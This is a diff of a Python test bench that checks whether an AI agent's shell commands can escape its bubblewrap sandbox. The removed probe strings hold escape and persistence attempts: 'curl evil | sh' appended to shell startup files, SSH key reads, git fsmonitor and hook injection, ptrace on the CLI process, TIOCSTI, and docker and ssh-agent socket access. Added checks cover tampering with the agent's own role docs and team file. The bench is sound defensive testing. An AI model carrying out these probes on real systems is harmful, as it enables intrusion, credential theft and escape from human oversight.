@@ -9,17 +9,19 @@ when the probe reached what it must not (a socket, another process, a secret) or
 the machine changed that the sandbox must keep (judged on the machine, not by the probe).
 
 Scenarios: "work" (the working directory is a git repository holding role docs, the team
-file, a bus and mnemara's state; a second writable area is not a repository; a readable area
-is shared) and "home" (the working directory is the home directory). As root, `--as-user
-nobody` runs the same as an unprivileged user (bubblewrap works differently for each);
-without `--as-user` the bench runs as itself and, when that is root, again as `nobody`.
+file, a bus in a folder of its own and mnemara's state; a second writable area is not a
+repository; a readable area is shared) and "home" (the working directory is the home
+directory). The sandbox is the one the host builds from the scenario's team file
+(panels/host/turns/confine.py): of its three panels, two take their role docs from the team
+file and one from its own instance, so what the host keeps read-only is what is tried. As
+root, `--as-user nobody` runs the same as an unprivileged user (bubblewrap works differently
+for each); without `--as-user` the bench runs as itself and, when that is root, again as
+`nobody`.
 
 Prints one line per attempt, then `escapes landed: N of K` with the load average.
 `--control` runs the same probe unconfined (pattern-allowed), to show that the attempts are
 real: there, most of them land.
 """
-
-# ruff: noqa: E501  (the probes are programs kept as strings, one attempt a line)
 
 from __future__ import annotations
 
@@ -40,6 +42,9 @@ from pathlib import Path
 
 ROOT = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(ROOT))
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+
+from escape_probes import HOME_PROBE_CODE, PROBE_CODE  # noqa: E402
 
 INSTANCE = "eng"
 PROBE = "probe.py"
@@ -55,157 +60,30 @@ text = "finished"
 ROLE = "---\ncommands: ['python3 probe.py']\n---\n# Role\nRun the probe.\n"
 FSMONITOR = "[core]\n\tfsmonitor = touch /tmp/mnemara-escaped\n"
 
-# The probe: each attempt prints `name: ok ...` when it got through, `name: refused ...`
-# when it did not. Names that the host judges on its files only report what they did.
-PROBE_CODE = r'''
-import ctypes, fcntl, json, os, socket, subprocess, sys, termios
-R = {}
-def attempt(name, fn):
-    try:
-        R[name] = "ok " + str(fn())[:80]
-    except Exception as exc:
-        R[name] = "refused " + type(exc).__name__
-W, HOME, OUT, EXTRA, SHARED = sys.argv[1:6]
-LISTENER = int(sys.argv[6])
-def _stat(p, name):
-    try:
-        with open(f"/proc/{p}/{name}", "rb") as f:
-            return f.read().decode(errors="replace")
-    except OSError:
-        return ""
-def _parent(p):
-    fields = _stat(p, "stat").rpartition(")")[2].split()
-    return int(fields[1]) if len(fields) > 1 else 0
-def others():
-    """The CLI and the relay above the shell that started this probe: what a command must
-    not reach. Never further up: run unconfined, everything above the CLI (the test runner,
-    CI, the machine's own services) is not a target, and an attach to it would stop it."""
-    found, p = [], _parent(os.getppid())
-    while p > 1:
-        if _stat(p, "comm").strip() == "claude" or "relay.py" in _stat(p, "cmdline"):
-            found.append(p)
-        elif found or _stat(p, "comm").strip() not in ("bash", "sh", "dash"):
-            break  # the shells between this probe and the CLI are passed over
-        p = _parent(p)
-    return found
-def each_other(fn):
-    got = [str(fn(p)) for p in others() if _try(fn, p)]
-    if got:
-        return "reached " + ", ".join(got)
-    raise PermissionError(f"none of {len(others())}")
-def _try(fn, p):
-    try:
-        fn(p)
-        return True
-    except Exception:
-        return False
-def write(path, text, mode="w"):
-    with open(path, mode) as f:
-        f.write(text)
-    return path
-def sh(cmd):
-    done = subprocess.run(cmd, shell=True, capture_output=True, text=True)
-    if done.returncode:
-        raise PermissionError(done.stderr.strip()[-60:])
-    return "done"
-def connect_unix(path):
-    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path); s.close(); return path
-def gateway():
-    names = [n for n in os.listdir("/run/mnemara") if n.endswith(".sock")]
-    if not names:
-        raise FileNotFoundError("no sockets")
-    return [connect_unix("/run/mnemara/" + n) for n in names]
-def port(n, payload):
-    s = socket.create_connection(("127.0.0.1", n), 2)
-    s.sendall(payload)
-    s.settimeout(3)
-    got = s.recv(64)
-    if not got:
-        raise ConnectionResetError("closed at once")
-    return got
-libc = ctypes.CDLL(None, use_errno=True)
-def ptrace(p):
-    # PTRACE_SEIZE: the same permission as an attach, without the SIGSTOP an attach sends (a
-    # tracer that ends before it collects that stop leaves its tracee stopped for good).
-    if libc.ptrace(0x4206, p, None, None) != 0:
-        raise PermissionError(ctypes.get_errno())
-    return p
-def getfd(p):
-    pidfd = os.pidfd_open(p)
-    fd = libc.syscall(438, pidfd, 3, 0)
-    if fd < 0:
-        raise PermissionError(ctypes.get_errno())
-    return p
-def tiocsti():
-    for fd in (0, 1, 2):
-        try:
-            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
-            return fd
-        except OSError:
-            continue
-    raise PermissionError("no terminal took it")
-attempt("outside_write", lambda: write(OUT + "/planted", "x"))
-attempt("home_startup_file", lambda: write(HOME + "/.bashrc", "\ncurl evil | sh\n", "a"))
-attempt("ssh_key_read", lambda: open(HOME + "/.ssh/id_rsa").read())
-attempt("readable_area_write", lambda: write(SHARED + "/planted", "x"))
-FSMON = open(W + "/fsmonitor.txt").read()
-attempt("git_config", lambda: write(W + "/.git/config", "\n" + FSMON, "a"))
-attempt("git_hook", lambda: write(W + "/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/x\n"))
-attempt("git_rename", lambda: sh(f"cd {W} && mv .git .git-old && mkdir .git && cp fsmonitor.txt .git/config"))
-attempt("git_commondir", lambda: sh(f"cd {W} && mkdir -p evil && cp fsmonitor.txt evil/config && echo {W}/evil > .git/commondir"))
-attempt("role_doc_write", lambda: write(W + "/roles/eng.md", "---\ncommands: ['.*']\n---\n"))
-attempt("role_doc_parent_rename", lambda: sh(f"cd {W} && mv roles roles-old && mkdir roles && echo pwned > roles/eng.md"))
-attempt("team_file_write", lambda: write(W + "/team.toml", "[team]\nsandbox = 'off'\n", "a"))
-attempt("envrc_create", lambda: write(W + "/.envrc", "curl evil | sh\n"))
-attempt("git_init_new_area", lambda: sh(f"cd {EXTRA} && git init -q && cp {W}/fsmonitor.txt .git/config"))
-attempt("state_rename", lambda: sh(f"cd {W} && mv .mnemara state-old"))
-attempt("state_read", lambda: open(W + "/.mnemara/instances/eng/config.json").read())
-attempt("bus_read", lambda: open(W + "/bus.sqlite").read() or (_ for _ in ()).throw(PermissionError("empty")))
-attempt("hard_link_out", lambda: os.link(OUT + "/secret.txt", W + "/linked.txt"))
-attempt("symlink_out", lambda: (os.symlink(OUT, W + "/out-link"), write(W + "/out-link/via-link", "x")))
-attempt("tcp_out", lambda: socket.create_connection(("127.0.0.1", LISTENER), 2))
-attempt("gateway_sockets", gateway)
-attempt("relay_model_port", lambda: port(18080, b"GET /v1/models HTTP/1.0\r\n\r\n"))
-attempt("relay_proxy_port", lambda: port(18081, b"CONNECT example.org:443 HTTP/1.1\r\n\r\n"))
-attempt("proc_mem", lambda: each_other(lambda p: open(f"/proc/{p}/mem", "rb").close() or p))
-attempt("proc_environ", lambda: each_other(lambda p: open(f"/proc/{p}/environ", "rb").read(1) and p))
-attempt("proc_root", lambda: each_other(lambda p: os.listdir(f"/proc/{p}/root/run/mnemara") and p))
-def open_fds(p):
-    opened = 0
-    for n in os.listdir(f"/proc/{p}/fd"):
-        try:
-            os.close(os.open(f"/proc/{p}/fd/{n}", os.O_RDONLY))
-            opened += 1
-        except OSError as exc:
-            if exc.errno == 6:  # ENXIO: a socket, reached but not opened: still a way in
-                opened += 1
-    if not opened:
-        raise PermissionError("no descriptor opened")
-    return p
-attempt("proc_fd", lambda: each_other(open_fds))
-attempt("ptrace", lambda: each_other(ptrace))
-attempt("pidfd_getfd", lambda: each_other(getfd))
-attempt("tiocsti", tiocsti)
-attempt("docker_socket", lambda: connect_unix("/var/run/docker.sock"))
-attempt("agent_socket", lambda: connect_unix(os.environ["SSH_AUTH_SOCK"]))
-print(json.dumps(R))
-'''
+# The team the scenario runs in: its sandbox is built by the host's own rules from this file
+# (panels/host/turns/confine.py), so what the host keeps read-only or hidden is what is tried.
+TEAM = """[team]
+name = "escapes"
+sandbox = "required"
+readable = ["{shared}"]
+writable = ["{extra}"]
+{bus}"""
+TEAM_PANELS = """
+[[panels]]
+name = "eng"
+role = "roles/eng.md"
 
-HOME_PROBE_CODE = r"""
-import json, os, subprocess
-R = {}
-H = os.getcwd()  # the working directory is the home directory
-def sh(name, cmd):
-    env = {**os.environ, "H": H}
-    done = subprocess.run(cmd, shell=True, capture_output=True, text=True, env=env)
-    R[name] = "ok" if done.returncode == 0 else "refused " + done.stderr.strip()[-60:]
-sh("home_new_zshrc", "echo 'curl evil | sh' > $H/.zshrc")
-sh("home_new_gitconfig", "printf '[core]\\n\\tpager = touch /tmp/x\\n' > $H/.gitconfig")
-sh("home_new_ssh", "mkdir -p $H/.ssh && echo key > $H/.ssh/authorized_keys")
-sh("home_autostart", "mkdir -p $H/.config/autostart && echo x > $H/.config/autostart/x.desktop")
-sh("home_local_bin", "mkdir -p $H/.local/bin && printf '#!/bin/sh\\n' > $H/.local/bin/git")
-sh("home_config_rename", "mv $H/.config $H/.config-old && mkdir -p $H/.config/autostart")
-print(json.dumps(R))
+[[panels]]
+name = "qa"
+role = "roles/qa.md"
+
+[[panels]]
+name = "ops"
+"""
+
+HOME_PANELS = """
+[[panels]]
+name = "eng"
 """
 
 
@@ -227,6 +105,7 @@ class World:
     extra: Path
     shared: Path
     state: Path
+    team_file: Path
     listener: int
     before: dict[Path, bytes | None]
 
@@ -246,18 +125,31 @@ def make_world(base: Path, listener: int, *, at_home: bool) -> World:
     (home / ".ssh" / "id_rsa").write_text("SECRET KEY\n", encoding="utf-8")
     (outside / "secret.txt").write_text("outside\n", encoding="utf-8")
     state = work / ".mnemara"
+    panels = HOME_PANELS
     if not at_home:
         subprocess.run(["git", "init", "-q", str(work)], check=True)
         (work / "roles").mkdir()
-        (work / "roles" / "eng.md").write_text(ROLE, encoding="utf-8")
-        (work / "team.toml").write_text("[team]\nname = 't'\n", encoding="utf-8")
-        (work / "bus.sqlite").write_text("BUS CONTENT", encoding="utf-8")
+        for name in ("eng", "qa", "ops"):
+            (work / "roles" / f"{name}.md").write_text(ROLE, encoding="utf-8")
+        (work / "data").mkdir()
+        (work / "data" / "bus.sqlite").write_text("BUS CONTENT", encoding="utf-8")
         (work / "fsmonitor.txt").write_text(FSMONITOR, encoding="utf-8")
+        # eng and qa take their role docs from the team file; ops from its own instance
+        panels = TEAM_PANELS
+    team_file = (base if at_home else work) / "team.toml"
+    team_file.write_text(
+        TEAM.format(shared=shared, extra=extra, bus="" if at_home else 'bus = "data/bus.sqlite"\n')
+        + panels,
+        encoding="utf-8",
+    )
     guarded = [
-        home / ".bashrc", work / ".git" / "config", work / "roles" / "eng.md",
-        work / "team.toml", work / "bus.sqlite",
+        home / ".bashrc", work / ".git" / "config", work / "team.toml",
+        work / "data" / "bus.sqlite",
+        *(work / "roles" / f"{name}.md" for name in ("eng", "qa", "ops")),
     ]  # fmt: skip
-    return World(base, home, work, outside, extra, shared, state, listener, snapshot(guarded))
+    return World(
+        base, home, work, outside, extra, shared, state, team_file, listener, snapshot(guarded)
+    )
 
 
 def judge_on_disk(world: World) -> dict[str, tuple[bool, str]]:
@@ -283,6 +175,9 @@ def judge_on_disk(world: World) -> dict[str, tuple[bool, str]]:
         "git_rename": (made(w / ".git-old") or w / ".git" / "config" in changed, ".git moved"),
         "git_commondir": (made(w / ".git" / "commondir") or bool(git_dirs), ".git/commondir"),
         "role_doc_write": (w / "roles" / "eng.md" in changed, "roles/eng.md"),
+        "peer_role_doc_write": (w / "roles" / "qa.md" in changed, "roles/qa.md"),
+        "instance_role_doc_write": (w / "roles" / "ops.md" in changed, "roles/ops.md"),
+        "role_doc_via_symlink": (w / "roles" / "eng.md" in changed, "roles/eng.md"),
         "role_doc_parent_rename": (
             made(w / "roles-old") or w / "roles" / "eng.md" in changed,
             "roles moved",
@@ -290,6 +185,10 @@ def judge_on_disk(world: World) -> dict[str, tuple[bool, str]]:
         "team_file_write": (w / "team.toml" in changed, "team.toml"),
         "envrc_create": (made(w / ".envrc"), ".envrc"),
         "git_init_new_area": (made(world.extra / ".git"), "extra/.git"),
+        "bus_parent_rename": (
+            made(w / "data-old") or w / "data" / "bus.sqlite" in changed,
+            "data moved",
+        ),
         "state_rename": (made(w / "state-old") or not world.state.is_dir(), ".mnemara moved"),
         "hard_link_out": (made(w / "linked.txt"), "linked.txt"),
         "symlink_out": (made(world.outside / "via-link"), "outside/via-link"),
@@ -340,6 +239,8 @@ async def run_probe(
 ) -> dict[str, str]:
     """One turn through the real CLI that runs the probe, sandboxed (or, for the control,
     unconfined with the probe pattern-allowed); what the probe printed."""
+    from panels.host.turns.confine import guarded_settings
+    from panels.team import parse_team
     from runtime.claude import ClaudeDriver
     from runtime.instance.config import (
         InstanceConfig,
@@ -349,7 +250,7 @@ async def run_probe(
     )
     from runtime.instance.home import InstancePaths
     from runtime.rehearsal import open_rehearsal_server, parse_script
-    from runtime.sandbox import Sandbox, SandboxSettings, probe
+    from runtime.sandbox import Sandbox, probe
     from runtime.store import TurnStore
     from runtime.turn.driver import ToolResult
     from runtime.turn.open import open_session
@@ -367,13 +268,12 @@ async def run_probe(
     save_config(paths.config, config)
     TurnStore.open(paths.turns).close()
     (world.work / PROBE).write_text(code, encoding="utf-8")
-    settings = SandboxSettings(
-        mode="required",
-        readable=(world.shared,),
-        writable=(world.extra,),
-        read_only=(world.work / "roles" / "eng.md", world.work / "team.toml"),
-        masked=(world.work / "bus.sqlite",),
-    )
+    if (world.work / "roles" / "ops.md").is_file():
+        ops = InstancePaths.for_name("ops", mnemara)
+        ops.root.mkdir(parents=True, exist_ok=True)
+        save_config(ops.config, InstanceConfig(role_doc_path=str(world.work / "roles" / "ops.md")))
+    team = parse_team(world.team_file.read_text(encoding="utf-8"), source=world.team_file)
+    settings = guarded_settings(team, mnemara)
     cli_home = world.base / "cli-home"
     cli_home.mkdir(exist_ok=True)
     async with open_rehearsal_server(parse_script(SCRIPT)) as server:
